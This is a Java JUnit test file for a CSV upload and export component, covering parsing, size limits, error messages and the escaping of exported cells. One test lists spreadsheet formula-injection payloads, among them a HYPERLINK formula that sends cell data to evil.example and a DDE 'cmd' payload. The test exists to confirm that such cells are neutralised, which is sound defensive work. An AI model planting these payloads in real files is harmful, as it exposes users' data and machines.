package dev.numera.functions.http.lists;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.numera.core.problem.ProblemException;
import dev.numera.core.problem.ProblemType;
import dev.numera.core.problem.Result;
import dev.numera.fixtures.PlainNumbers;
import dev.numera.functions.http.CsvForm;
import dev.numera.sequences.access.PrintedAllocation;
import dev.numera.sequences.lists.CellNotation;
import dev.numera.sequences.lists.ListColumns;
import dev.numera.sequences.lists.RowResult;
import dev.numera.sequences.lists.Upload;
import dev.numera.sequences.lists.Uploads;
import java.util.List;
import java.util.Map;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class UploadCsvTest {
    @Test
    void quotesHoldCommasLineBreaksAndQuotes() {
        UploadedRows rows = CsvLists.ofKeys("id,note\r\n1,\"a, \"\"b\"\"\r\nc\"\r\n2,\r\n", "");

        assertEquals(
                new ListColumns(List.of("id", "note"), Map.of(ListColumns.Field.KEY, 0)).ofFile(',', CellNotation.FILE),
                rows.layout());
        assertEquals(List.of(List.of("1", "a, \"b\"\r\nc"), List.of("2", "")), values(rows));
    }

    @ParameterizedTest
    @ValueSource(strings = {"key\r\n1\r\n2\r\n", "key\n1\n2", "key\r1\r2", "\"key\"\n\"1\"\n\"2\"\n"})
    void linesEndAsTheyMay(String text) {
        assertEquals(List.of(List.of("1"), List.of("2")), values(CsvLists.ofKeys(text, "")));
    }

    @Test
    void columnsAreFoundByTheirNames() {
        ListColumns columns = CsvLists.ofKeys("day,id\n2026-11-21,1\n", "keyColumn=id&dateColumn=day")
                .layout();

        assertEquals(Map.of(ListColumns.Field.KEY, 1, ListColumns.Field.DATE, 0), columns.places());
    }

    /** The parser's own message once added a second line, counted from the header line. */
    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            value = {"'a,\"open\nb,2'|a quote that is never closed", "'a,\"x\"y\nb,2'|characters after a closing quote"
            })
    void invalidCsvNamesOneLineOfTheFile(String rows, String flaw) {
        assertEquals(
                "line 4 is no CSV as in RFC 4180: it has " + flaw + ".",
                assertThrows(ProblemException.class, () -> CsvLists.ofKeys("Export\n\nkey,x\n" + rows, "headerLine=3"))
                        .getMessage());
    }

    @Test
    void moreKeysThanAnUploadMayHaveAreTooLarge() {
        String text = "key\n"
                + IntStream.rangeClosed(0, Uploads.MAX_ITEMS)
                        .mapToObj(Integer::toString)
                        .collect(Collectors.joining("\n"));

        assertEquals(
                ProblemType.TOO_LARGE,
                assertThrows(ProblemException.class, () -> CsvLists.ofKeys(text, ""))
                        .type());
    }

    @Test
    void rowOfALongImportThatCannotBeUnderstoodComesLastWithItsLine() {
        String text = "key,number\n"
                + IntStream.rangeClosed(1, Uploads.MAX_ITEMS)
                        .mapToObj(i -> i == 70_000 ? "old-" + i + ",7OOOO" : "old-" + i + "," + i)
                        .collect(Collectors.joining("\n"));
        Map<ListColumns.Field, Integer> places = Map.of(ListColumns.Field.KEY, 0, ListColumns.Field.NUMBER, 1);

        Upload.Content content = UploadCsv.read(
                        text,
                        CsvStructure.WHOLE,
                        OwnColumns::ofImport,
                        (header, separator) -> new ListColumns(header.names(), places))
                .content();

        assertEquals(Uploads.MAX_ITEMS, content.lines().size());
        int last = Uploads.MAX_ITEMS - 1;
        assertEquals(List.of("old-70000", "7OOOO"), content.rows().get(last));
        assertEquals(70_001, content.lines().get(last));
        assertEquals(List.of(2, 3), content.lines().subList(0, 2));
    }

    @Test
    void malformedRowsAreReportedTogetherUpToAsManyAsAProblemLists() {
        String text = "key,number\n" + "a,1,2\n".repeat(Uploads.MAX_ITEMS);
        Map<ListColumns.Field, Integer> places = Map.of(ListColumns.Field.KEY, 0, ListColumns.Field.NUMBER, 1);

        ProblemException problem = assertThrows(
                ProblemException.class,
                () -> UploadCsv.read(
                        text,
                        CsvStructure.WHOLE,
                        OwnColumns::ofImport,
                        (header, separator) -> new ListColumns(header.names(), places)));

        assertEquals("line 2 has 3 columns, but the header has 2 (and at least 19 more).", problem.getMessage());
    }

    /**
     * The line was once taken for the header, so the real header became a key and got a number that no document has.
     */
    @ParameterizedTest
    @ValueSource(strings = {"sep=;", "SEP=;", "sep=,", "sep=\t", "\"sep=;\""})
    void lineWithTheSeparatorOfASpreadsheetIsNoHeader(String line) {
        assertEquals(
                "header is the line sep= that only spreadsheets read: delete it, so that the list starts with the names"
                        + " of its columns.",
                assertThrows(ProblemException.class, () -> CsvLists.ofKeys(line + "\r\nkey;note\r\na;b\r\n", ""))
                        .getMessage());
    }

    @Test
    void aRowThatNoPropertyHoldsIsRefused() {
        String text = "id,note\n1,a\n2," + "x".repeat(Uploads.MAX_ROW_UNITS);

        assertEquals(
                "line 3 has more than 30000 characters as JSON.",
                assertThrows(ProblemException.class, () -> CsvLists.ofKeys(text, ""))
                        .getMessage());
    }

    /**
     * Each empty value needs quotes and a comma in storage. A row of such values was once stored in part and then
     * refused for its size.
     */
    @Test
    void emptyColumnsCountToo() {
        String commas = ",".repeat(Uploads.MAX_ROW_UNITS / 3);

        assertEquals(
                "header has more than 30000 characters as JSON.",
                assertThrows(ProblemException.class, () -> CsvLists.ofKeys("id" + commas + "\n", ""))
                        .getMessage());
    }

    @Test
    void anUploadHasAtMostFiveHundredColumns() {
        String commas = ",".repeat(499);
        assertEquals(
                500,
                CsvLists.ofKeys("id" + commas + "\n", "").layout().columns().size());

        assertEquals(
                "header has 501 columns, but an upload has at most 500: leave out those that are not needed.",
                assertThrows(ProblemException.class, () -> CsvLists.ofKeys("id," + commas + "\n", ""))
                        .getMessage());
    }

    @Test
    void writesTheRowsThatWereReadWithNumbersAndTexts() {
        ListColumns columns = new ListColumns(List.of("id", "note, or so"), Map.of(ListColumns.Field.KEY, 0));
        RowResult<List<String>> numbered = new RowResult<>(
                List.of("1", "a \"b\"\r\nc"), answer(PlainNumbers.of("1", 7, 7, 1, 1, List.of("N,7"), false)));
        RowResult<List<String>> refused = new RowResult<>(
                List.of("2", ""), Result.refused(new ProblemException(ProblemType.EXHAUSTED, "None left.")));
        RowResult<List<String>> several =
                new RowResult<>(List.of("3", "x"), answer(PlainNumbers.of("3", 8, 4, 3, -2, null, false)));

        assertEquals(
                "id,\"note, or so\",number,text,problem,stored_date\r\n"
                        + "1,\"a \"\"b\"\"\r\n"
                        + "c\",7,\"N,7\",,\r\n"
                        + "2,,,,None left.,\r\n"
                        + "3,x,8,,,\r\n"
                        + "3,x,6,,,\r\n"
                        + "3,x,4,,,\r\n",
                new ResultCsv(CsvForm.PLAIN).write(columns, Stream.of(numbered, refused, several)));
    }

    /** A spreadsheet takes this text for a formula, which can send the rest of the sheet anywhere. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"paid\")",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1)",
                "\t1",
                "\r1",
                "\n1",
                "\uff1d1+1",
                "+",
                "-",
                "-5 EUR",
                "+49 170 1",
                "-1,000.5",
                "--5",
                "-.5",
                "=5",
                "@5"
            })
    void aTextThatBeginsLikeAFormulaIsMadeHarmless(String text) {
        ListColumns columns = new ListColumns(List.of(text, "id"), Map.of(ListColumns.Field.KEY, 1));
        RowResult<List<String>> item =
                new RowResult<>(List.of(text, "k"), answer(PlainNumbers.of("k", -7, -7, 1, 1, List.of(text), false)));

        String csv = new ResultCsv(CsvForm.PLAIN).write(columns, Stream.of(item));

        UploadedRows rows = CsvLists.ofKeys(csv, "keyColumn=id&separator=comma");
        assertEquals(List.of(List.of("'" + text, "k", "-7", "'" + text, "", "")), cells(csv));
        assertEquals(
                List.of(text, "id", "number", "text", "problem"), rows.layout().columns());
        assertEquals(List.of(List.of(text, "k", "-7", text, "")), values(rows));
    }

    /**
     * Cells are harmless whichever character separates them in the program that opens the file: see
     * {@code CsvCellTest}.
     */
    @Test
    void noPartOfARowIsAFormula() {
        ListColumns columns = new ListColumns(List.of("id", "a;=1"), Map.of(ListColumns.Field.KEY, 0));
        RowResult<List<String>> item = new RowResult<>(
                List.of("k;=1+1;b", "\t=1"), answer(PlainNumbers.of("k;=1+1;b", -7, -7, 1, 1, List.of("x;=2"), false)));

        String csv = new ResultCsv(CsvForm.PLAIN).write(columns, Stream.of(item));

        assertEquals(List.of(List.of("k;'=1+1;b", "'\t'=1", "-7", "x;'=2", "", "")), cells(csv));
        UploadedRows rows = CsvLists.ofKeys(csv, "keyColumn=id&separator=comma");
        assertEquals(
                List.of("id", "a;=1", "number", "text", "problem"),
                rows.layout().columns());
        assertEquals(List.of(List.of("k;=1+1;b", "\t=1", "-7", "x;=2", "")), values(rows));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "5",
                "-5",
                "+5",
                "-5.25",
                "-5,25",
                "'=1",
                "a=1",
                " =1",
                "1-1",
                "2026-11-21",
                "\u2212" + "5",
                "#1"
            })
    void numbersAndHarmlessTextsStayAsTheyWere(String text) {
        ListColumns columns = new ListColumns(List.of("id", "note"), Map.of(ListColumns.Field.KEY, 0));
        RowResult<List<String>> item =
                new RowResult<>(List.of("1", text), answer(PlainNumbers.of("1", -7, -7, 1, 1, null, false)));

        assertEquals(
                text,
                CsvLists.ofKeys(new ResultCsv(CsvForm.PLAIN).write(columns, Stream.of(item)), "")
                        .rows()
                        .get(0)
                        .get(1));
    }

    /** Returns the cells as another program reads them. */
    private static List<List<String>> cells(String csv) {
        return values(UploadCsv.read(
                csv,
                CsvLists.separatedBy(','),
                headers -> OwnColumns.NONE,
                (headers, separator) -> new ListColumns(
                        headers.names(), Map.of(ListColumns.Field.KEY, headers.place("keyColumn", "id")))));
    }

    private static List<List<String>> values(UploadedRows rows) {
        return rows.rows();
    }

    private static Result<PrintedAllocation> answer(PrintedAllocation printed) {
        return Result.of(printed);
    }
}
